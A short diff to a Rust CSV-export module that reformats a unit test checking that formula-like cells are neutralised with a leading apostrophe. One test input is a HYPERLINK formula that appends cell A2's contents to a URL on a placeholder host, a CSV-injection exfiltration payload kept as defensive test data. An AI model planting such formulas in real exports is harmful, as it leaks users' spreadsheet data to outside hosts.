@@ -180,7 +180,6 @@ pub fn csv_document<const N: usize>(
     w.into_inner().map_err(|e| csv::Error::from(e.into_error()))
 }
 
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -188,7 +187,10 @@ mod tests {
     #[test]
     fn formula_cells_are_neutralised_and_others_kept() {
         for (cell, want) in [
-            ("=HYPERLINK(\"https://x/?\"&A2;\"x\")", "'=HYPERLINK(\"https://x/?\"&A2;\"x\")"),
+            (
+                "=HYPERLINK(\"https://x/?\"&A2;\"x\")",
+                "'=HYPERLINK(\"https://x/?\"&A2;\"x\")",
+            ),
             ("+33 1 23", "'+33 1 23"),
             ("-2+3", "'-2+3"),
             ("@SUM(A1)", "'@SUM(A1)"),
